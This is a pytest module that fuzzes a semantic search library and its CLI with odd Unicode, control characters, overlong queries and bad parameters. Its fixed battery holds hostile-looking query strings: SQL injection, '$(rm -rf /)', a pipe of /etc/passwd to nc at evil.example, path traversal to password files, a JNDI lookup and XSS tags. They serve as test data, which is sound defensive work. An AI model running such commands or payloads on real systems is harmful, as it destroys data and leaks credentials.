"""Hostile input: nothing crashes; every query gives results or a typed ValidationError.

Library level: the real MiniLM embedder over a 13-chunk in-memory collection,
driven by hypothesis (text from every Unicode plane, control characters
included, surrogates in a property of their own) and by a fixed battery
(bidi marks, RTL scripts, emoji and ZWJ sequences, C0/C1 controls, punctuation
or digits only, the length limit, JSON/SQL/shell/path-looking strings, six
non-English languages) plus bad parameters.

CLI level: the same kinds of strings as real argv (including bytes that are not
UTF-8) through ``python -m retrieval_lib search``: exit 0 with valid JSON, or
exit 2 with one ``error:`` line. Most runs use the loopback FakeCohere provider
(fast start); one uses the real MiniLM default.

The rule checked everywhere (``classify``): a query with a lone surrogate, an
empty or white-space-only query, or one longer than QUERY_MAX_CHARS after
stripping is a ValidationError on field ``query``; anything else returns a
SearchResponse whose results are ranked, scored in [0, 1] and counted.
"""

from __future__ import annotations

import json
import math
import os
import shutil
import subprocess
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from fakes.cohere_server import FakeCohere
from fakes.embedders import FakeEmbedder
from fakes.proxies import direct_env
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from warm_cli import run_cli

from retrieval_lib.embedding.providers import CohereEmbedder
from retrieval_lib.errors import ValidationError
from retrieval_lib.models import SearchResponse
from retrieval_lib.search import MAX_TOP_K, SCORE_TOLERANCE, Retriever
from retrieval_lib.stores.qdrant import VectorStore

#: One worker runs this module (--dist loadgroup): its module fixtures embed two stores and start every
#: CLI run at once, which each worker that ran one of its tests would do again.
pytestmark = pytest.mark.xdist_group("test_hostile_input")

COLLECTION = "hostile"
LIMIT = 1000  # QUERY_MAX_CHARS default
FAKE_KEY = "co-FAKE-KEY-hostile-81c4"

#: How many inputs each part of this module tried (reported at the end of the module).
TRIED = {"hypothesis": 0, "fixed": 0, "params": 0, "cli": 0}


@pytest.fixture(scope="module", autouse=True)
def _report_counts(figure_line):
    yield
    line = (f"hostile input: {sum(TRIED.values())} inputs tried ({TRIED['hypothesis']} hypothesis examples, "
            f"{TRIED['fixed']} fixed battery, {TRIED['params']} bad-parameter cases, {TRIED['cli']} CLI runs)")
    figure_line(line)


@pytest.fixture(scope="module", autouse=True)
def _one_torch_thread():
    """MiniLM on one intra-op thread while this module runs (restored after).

    On a busy 2-core machine torch's two spinning OpenMP threads make each query
    ~10x slower (0.6 s instead of 0.05 s); results are the same either way.
    """
    import torch

    before = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(before)


@pytest.fixture(scope="module")
def book(embedder, fill, book_docs):
    store = VectorStore.in_memory()
    fill(store, COLLECTION, embedder, book_docs)
    yield store, len(book_docs)
    store.close()


@pytest.fixture(scope="module")
def retriever(book, embedder) -> Retriever:
    store, _ = book
    return Retriever(store, FakeEmbedder(inner=embedder), COLLECTION)  # counts embed calls


# --------------------------------------------------------------------------- the rule

def classify(query: str, limit: int = LIMIT) -> str:
    """What the library must do with ``query``: "ok" or why it is rejected."""
    try:
        query.encode("utf-8")
    except UnicodeEncodeError:
        return "surrogate"
    text = query.strip()
    if not text:
        return "empty"
    if len(text) > limit:
        return "too_long"
    return "ok"


def assert_well_formed(resp: SearchResponse, query: str, n_points: int, top_k: int = 5) -> None:
    assert isinstance(resp, SearchResponse)
    assert resp.query_text == query.strip()
    assert resp.total_results == len(resp.results)
    # threshold 0 and no filter: every query, however odd, gets the top_k nearest chunks
    assert len(resp.results) == min(top_k, n_points)
    raw = [r.raw_score for r in resp.results]
    # best first; scores closer than SCORE_TOLERANCE are a tie, which the retriever breaks by point id
    assert all(a >= b - SCORE_TOLERANCE for a, b in zip(raw, raw[1:]))
    assert all(0.0 <= r.similarity_score <= 1.0 and math.isfinite(r.raw_score) for r in resp.results)
    assert len({r.point_id for r in resp.results}) == len(resp.results)
    assert all(r.missing_fields == [] for r in resp.results)


def search_or_reject(retriever: Retriever, query: str, n_points: int) -> SearchResponse | None:
    """Search ``query``; only a SearchResponse or the expected ValidationError may come out."""
    expected = classify(query)
    before = retriever.embedder.query_calls
    try:
        resp = retriever.search(query)
    except ValidationError as err:
        assert expected != "ok", f"valid query rejected: {query!r}: {err}"
        assert err.field == "query" and err.exit_code == 2
        if expected == "too_long":
            assert f"the limit is {LIMIT}" in err.message
        if expected == "surrogate":
            assert "UTF-8" in err.message
        assert retriever.embedder.query_calls == before, "a rejected query was embedded"
        return None
    assert expected == "ok", f"expected a ValidationError ({expected}) for {query!r}"
    assert_well_formed(resp, query, n_points)
    return resp


# --------------------------------------------------------------------------- hypothesis

_SPECIALS = (
    [chr(c) for c in range(0x00, 0x20)] + [chr(c) for c in range(0x7F, 0xA0)]  # C0, DEL, C1
    + list("\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c")  # bidi controls
    + list("\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f")  # zero-width and invisible
    + list("\u00a0\u2028\u2029\u3000\u1680\u180e") + ["\ufffe", "\uffff", "\U0010ffff", "\U000e0001"]
)
#: Every plane (0..0x10FFFF), control characters included, surrogates excluded.
ANY_CHAR = st.one_of(
    st.characters(exclude_categories=("Cs",)),
    st.characters(min_codepoint=0x10000, max_codepoint=0x10FFFF, exclude_categories=("Cs",)),  # astral planes
    st.sampled_from(_SPECIALS),
)
QUERIES = st.one_of(
    st.text(ANY_CHAR, max_size=1500),
    st.text(ANY_CHAR, min_size=LIMIT - 10, max_size=1500),  # around and past the limit
    st.builds(lambda pad, t, pad2: pad + t + pad2, st.text(" \t\n\u00a0\u3000", max_size=4),
              st.text(ANY_CHAR, max_size=40), st.text(" \t\n\u2029", max_size=4)),
)
HSETTINGS = dict(deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@pytest.mark.timeout(240)
@settings(max_examples=150, **HSETTINGS)
@given(query=QUERIES)
def test_any_text_gives_results_or_a_validation_error(retriever, book, query):
    TRIED["hypothesis"] += 1
    search_or_reject(retriever, query, book[1])


@pytest.mark.timeout(120)
@settings(max_examples=40, **HSETTINGS)
@given(query=st.builds(lambda a, s, b: a + s + b, st.text(ANY_CHAR, max_size=30),
                       st.lists(st.integers(0xD800, 0xDFFF).map(chr), min_size=1, max_size=3).map("".join),
                       st.text(ANY_CHAR, max_size=30)))
def test_text_with_lone_surrogates_is_a_validation_error(retriever, book, query):
    TRIED["hypothesis"] += 1
    assert search_or_reject(retriever, query, book[1]) is None


@pytest.mark.timeout(240)
@settings(max_examples=40, **HSETTINGS)
@given(queries=st.lists(st.one_of(st.text(ANY_CHAR, max_size=80), st.text(ANY_CHAR, min_size=995, max_size=1010)),
                        min_size=1, max_size=6),
       top_k=st.integers(min_value=1, max_value=25))
def test_search_many_gives_one_response_per_query_or_a_validation_error(retriever, book, queries, top_k):
    TRIED["hypothesis"] += 1
    verdicts = [classify(q) for q in queries]
    before = retriever.embedder.query_calls
    try:
        responses = retriever.search_many(queries, top_k=top_k)
    except ValidationError as err:
        assert any(v != "ok" for v in verdicts), f"valid queries rejected: {err}"
        assert err.field == "query"
        assert retriever.embedder.query_calls == before  # every query is checked before any is embedded
        return
    assert all(v == "ok" for v in verdicts)
    assert len(responses) == len(queries)
    for q, resp in zip(queries, responses):
        assert_well_formed(resp, q, book[1], top_k=min(top_k, MAX_TOP_K))
        assert (top_k > MAX_TOP_K) == any("capped" in w for w in resp.warnings)


# --------------------------------------------------------------------------- fixed battery

OK_QUERIES = {
    "rtl-marks": "\u200fWhat is ROS 2?\u200e",
    "rtl-override": "\u202eevil\u202c how do robots walk \u2067x\u2069",
    "arabic": "ما هو نظام تشغيل الروبوت ROS 2؟",
    "hebrew": "מה זה ROS 2 ואיך מפעילים צמתים?",
    "emoji-only": "🤖🦾🚀",
    "zwj-sequences": "👩‍🔬👨‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🚀",
    "nul-and-c0": "ROS\x00 2\x01\x02\x07\x08\x0b\x0c\x1b[31m nodes\x1f",
    "c1-controls": "\x80\x85\x9b\x9fGazebo\x9c",
    "del-only": "\x7f",
    "zero-width-only": "\u200b\u200c\u200d\u2060",
    "bom-and-noncharacters": "\ufeff\ufffe\uffff\U0010ffff",
    "combining-zalgo": "Z\u0338\u0322\u031b\u031ba\u0336l\u0337g\u0337o\u0337 robots",
    "only-punctuation": "?!.,;:…—«»¿¡()[]{}<>@#%^&*_+=|\\/~`'\"",
    "only-digits": "0123456789" * 3,
    "json-looking": '{"query": "ROS 2", "top_k": 100, "filter": {"$where": "1==1"}}',
    "sql-injection": "'; DROP TABLE chunks; --",
    "sql-union": "\" OR 1=1 UNION SELECT api_key FROM secrets --",
    "shell-substitution": "$(rm -rf /)",
    "shell-backticks": "`id`",
    "shell-chain": "; cat /etc/passwd | nc evil.example 9 &",
    "path-traversal": "../../../../etc/passwd",
    "windows-traversal": "..\\..\\windows\\system32\\config\\SAM",
    "format-strings": "%s%s%n %x {0} {query!r} ${jndi:ldap://x/a}",
    "html-script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "very-long-single-token": "Supercalifragilistic" * 49,  # 980 characters, no space
    "exactly-the-limit": ("robots " * 200)[:LIMIT - 1] + "x",
    "limit-after-stripping": "  \t" + "a" * LIMIT + "\n  ",
    "nbsp-wrapped": "\u00a0\u3000What is Gazebo?\u2029",
    "german": "Wie beschreibe ich die Gelenke eines Roboters in URDF?",
    "spanish": "¿Qué es un simulador de física para robots?",
    "chinese": "什么是机器人操作系统？",
    "japanese": "ロボットのシミュレーションとは何ですか？",
    "hindi": "रोबोट ऑपरेटिंग सिस्टम क्या है?",
    "russian": "Что такое симулятор Gazebo для роботов?",
}
REJECTED_QUERIES = {
    "empty": ("", "empty"),
    "whitespace-and-separators": (" \t\n\r\u00a0\u2028\u2029\u3000\x1c\x1d\x1e\x1f\x85", "empty"),
    "one-over-the-limit": ("b" * (LIMIT + 1), "too_long"),
    "ten-thousand-chars": ("What is ROS 2? " * 700, "too_long"),  # 10,500 characters
    "hundred-thousand-chars": ("x" * 100_000, "too_long"),
    "lone-surrogate": ("caf\udce9 robots", "surrogate"),  # what non-UTF-8 argv bytes decode to
    "surrogate-pair-halves": ("\ud83e\udd16 robot", "surrogate"),
}


@pytest.mark.timeout(60)
@pytest.mark.parametrize("query", OK_QUERIES.values(), ids=OK_QUERIES.keys())
def test_fixed_battery_returns_results(retriever, book, query):
    TRIED["fixed"] += 1
    assert classify(query) == "ok"
    resp = search_or_reject(retriever, query, book[1])
    assert resp is not None and resp.results  # results returned, non-English included


@pytest.mark.timeout(60)
@pytest.mark.parametrize("query, why", REJECTED_QUERIES.values(), ids=REJECTED_QUERIES.keys())
def test_fixed_battery_rejections_are_typed(retriever, book, query, why):
    TRIED["fixed"] += 1
    assert classify(query) == why
    assert search_or_reject(retriever, query, book[1]) is None


@pytest.mark.timeout(60)
def test_ten_thousand_characters_states_the_limit_and_the_length(retriever):
    TRIED["fixed"] += 1
    query = "x" * 10_000
    with pytest.raises(ValidationError) as ei:
        retriever.search(query)
    assert "10000 characters" in ei.value.message and f"the limit is {LIMIT}" in ei.value.message
    assert "QUERY_MAX_CHARS" in ei.value.message  # what to do


@pytest.mark.timeout(60)
def test_hostile_filters_are_results_or_typed_errors(retriever, book):
    """Hostile strings as source_prefix/section: empty responses with a warning, never a crash."""
    for value in ["'; DROP TABLE chunks; --", "../../etc", "$(id)", "🤖", "\x00", "%s{0}"]:
        TRIED["fixed"] += 2
        resp = retriever.search("robots", source_prefix=value)
        assert resp.results == [] and any("no source file or URL starts with" in w for w in resp.warnings)
        resp = retriever.search("robots", section=value)
        assert resp.results == [] and any(w.startswith(f"no chunk has section_title {value!r}; ")
                                          and "sections exist, e.g." in w for w in resp.warnings)
    for kwargs in ({"source_prefix": "caf\udce9"}, {"section": "\udc80"}):
        TRIED["fixed"] += 1
        with pytest.raises(ValidationError) as ei:
            retriever.search("robots", **kwargs)
        assert ei.value.field == next(iter(kwargs))


@pytest.mark.timeout(60)
def test_search_many_of_nothing_is_an_empty_list(retriever):
    TRIED["fixed"] += 1
    assert retriever.search_many([]) == []
    with pytest.raises(ValidationError):
        retriever.search_many("one string, not a list")


# --------------------------------------------------------------------------- bad parameters

BAD_PARAMS = [
    ({"top_k": 0}, "top_k"), ({"top_k": -1}, "top_k"), ({"top_k": "5"}, "top_k"), ({"top_k": None}, "top_k"),
    ({"top_k": 1.5}, "top_k"), ({"top_k": True}, "top_k"),
    ({"similarity_threshold": -0.1}, "similarity_threshold"), ({"similarity_threshold": 1.1}, "similarity_threshold"),
    ({"similarity_threshold": math.nan}, "similarity_threshold"),
    ({"similarity_threshold": math.inf}, "similarity_threshold"),
    ({"similarity_threshold": "0.5"}, "similarity_threshold"), ({"similarity_threshold": None}, "similarity_threshold"),
    ({"source_prefix": ""}, "source_prefix"),
]


@pytest.mark.timeout(60)
@pytest.mark.parametrize("kwargs, field", BAD_PARAMS,
                         ids=[f"{k}={v!r}" for (kw, _) in BAD_PARAMS for k, v in kw.items()])
def test_bad_parameters_are_validation_errors_before_embedding(retriever, kwargs, field):
    TRIED["params"] += 1
    before = retriever.embedder.query_calls
    with pytest.raises(ValidationError) as ei:
        retriever.search("What is ROS 2?", **kwargs)
    assert ei.value.field == field and ei.value.exit_code == 2
    assert retriever.embedder.query_calls == before


@pytest.mark.timeout(60)
@pytest.mark.parametrize("top_k", [21, 10**9])
def test_top_k_above_twenty_is_capped_with_a_warning(retriever, book, top_k):
    TRIED["params"] += 1
    resp = retriever.search("What is ROS 2?", top_k=top_k)
    assert resp.top_k == MAX_TOP_K
    assert f"top_k {top_k} capped at {MAX_TOP_K}" in resp.warnings
    assert len(resp.results) == min(MAX_TOP_K, book[1])


# --------------------------------------------------------------------------- CLI

_DROP_PREFIXES = ("QDRANT_", "COHERE_", "EMBEDDING_", "CO_")
_DROP = {"QUERY_MAX_CHARS"}


def clean_env(**extra: str) -> dict[str, str]:
    env = direct_env({k: v for k, v in os.environ.items() if not k.startswith(_DROP_PREFIXES) and k not in _DROP})
    env.update({"QDRANT_URL": "", "QDRANT_API_KEY": "", "EMBEDDING_MODEL": "", "HF_HUB_OFFLINE": "1",
                "TRANSFORMERS_OFFLINE": "1"})
    env.update(extra)
    return env


def _b(s: str) -> bytes:
    return s.encode("utf-8")


# (id, argv after "search" as bytes, provider, expected exit codes, text the error line or a warning holds).
# Kept to 16 runs (each is a fresh interpreter); the library battery above covers the string contents.
CLI_CASES: list[tuple[str, list[bytes], str, tuple[int, ...], str]] = [
    ("rtl-override", [_b(OK_QUERIES["rtl-override"])], "cohere", (0,), ""),
    ("zwj-emoji", [_b(OK_QUERIES["zwj-sequences"])], "cohere", (0,), ""),
    ("terminal-escapes", [_b("\x01\x1b[2J\x1b]0;pwned\x07\x7f\x9b ROS 2")], "cohere", (0,), ""),
    ("sql-injection", [_b(OK_QUERIES["sql-injection"])], "cohere", (0,), ""),
    ("shell", [_b("$(rm -rf /) `id` ; ls")], "cohere", (0,), ""),
    ("chinese", [_b(OK_QUERIES["chinese"])], "cohere", (0,), ""),
    ("10001-chars", [b"y" * 10_001], "cohere", (2,), "the limit is 1000"),
    ("whitespace-only", [b" \t "], "cohere", (2,), "query cannot be empty"),
    ("not-utf8-bytes", [b"caf\xe9 robots"], "cohere", (2,), "UTF-8"),
    ("not-utf8-source-prefix", [b"robots", b"--source-prefix", b"mod\xff"], "cohere", (2,), "source_prefix"),
    ("top-k-0", [b"robots", b"--top-k", b"0"], "cohere", (2,), "top_k"),
    ("top-k-abc", [b"robots", b"--top-k", b"abc"], "cohere", (2,), "--top-k"),
    ("threshold-nan", [b"robots", b"--threshold", b"nan"], "cohere", (2,), "similarity_threshold"),
    ("threshold-1.5", [b"robots", b"--threshold", b"1.5"], "cohere", (2,), "similarity_threshold"),
    ("top-k-huge", [b"robots", b"--top-k", b"1000000000"], "cohere", (0,), "capped at 20"),
    ("german-minilm", [_b(OK_QUERIES["german"])], "local", (0,), ""),
]


@pytest.fixture(scope="module")
def cli_stores(tmp_path_factory, embedder, fill, book_docs, no_proxies):
    """Two embedded store folders: 1024-dim (FakeCohere vectors) and 384-dim (MiniLM); and the fake."""
    root = tmp_path_factory.mktemp("hostile-cli")
    with FakeCohere(dim=1024) as fake:
        cohere = CohereEmbedder(FAKE_KEY, "embed-multilingual-v3.0", base_url=fake.url, timeout=10, max_retries=0)
        with VectorStore.at_path(root / "cohere") as store:
            fill(store, COLLECTION, cohere, book_docs)
        cohere.close()
        with VectorStore.at_path(root / "local") as store:
            fill(store, COLLECTION, embedder, book_docs)
        yield root, fake


def _run_cli_case(case, root: Path, fake_url: str) -> subprocess.CompletedProcess:
    name, argv, provider, _, _ = case
    folder = root / "runs" / name
    shutil.copytree(root / provider, folder)
    env = clean_env(QDRANT_PATH=str(folder), QDRANT_COLLECTION_NAME=COLLECTION, EMBEDDING_PROVIDER=provider)
    if provider == "cohere":
        env.update(COHERE_API_KEY=FAKE_KEY, COHERE_BASE_URL=fake_url, EMBEDDING_TIMEOUT="5",
                   EMBEDDING_MAX_RETRIES="0")
    return run_cli([b"search", *argv, b"--json"], env=env, cwd=folder.parent, timeout=120, text=False)


@pytest.fixture(scope="module")
def cli_runs(cli_stores):
    root, fake = cli_stores
    (root / "runs").mkdir()
    pool = ThreadPoolExecutor(max_workers=3)
    # the slow MiniLM runs first, so they overlap the fast ones
    order = sorted(CLI_CASES, key=lambda c: c[2] != "local")
    futures = {c[0]: pool.submit(_run_cli_case, c, root, fake.url) for c in order}
    yield futures
    pool.shutdown(wait=True, cancel_futures=True)


@pytest.mark.timeout(240)
@pytest.mark.parametrize("case", CLI_CASES, ids=[c[0] for c in CLI_CASES])
def test_cli_hostile_argv_exits_0_with_json_or_2_with_one_line(case, cli_runs):
    name, argv, _, expected, says = case
    TRIED["cli"] += 1
    proc = cli_runs[name].result(timeout=230)
    stdout = proc.stdout.decode("utf-8")  # --json output is UTF-8 text whatever the query held
    stderr = proc.stderr.decode("utf-8", errors="replace")
    assert "Traceback" not in stderr, stderr
    assert proc.returncode in expected, f"rc={proc.returncode}: {stderr}"
    assert FAKE_KEY not in stdout + stderr
    if proc.returncode == 2:
        lines = stderr.strip("\n").split("\n")
        assert len(lines) == 1 and lines[0].startswith("error:"), stderr
        assert says in lines[0]
        assert stdout == ""
        return
    data: dict[str, Any] = json.loads(stdout)
    assert data["query_text"] == argv[0].decode("utf-8").strip()
    assert data["total_results"] == len(data["results"]) > 0
    scores = [r["raw_score"] for r in data["results"]]
    assert scores == sorted(scores, reverse=True)
    assert all(0.0 <= r["similarity_score"] <= 1.0 for r in data["results"])
    if says:
        assert any(says in w for w in data["warnings"]), data["warnings"]
    assert "error:" not in stderr
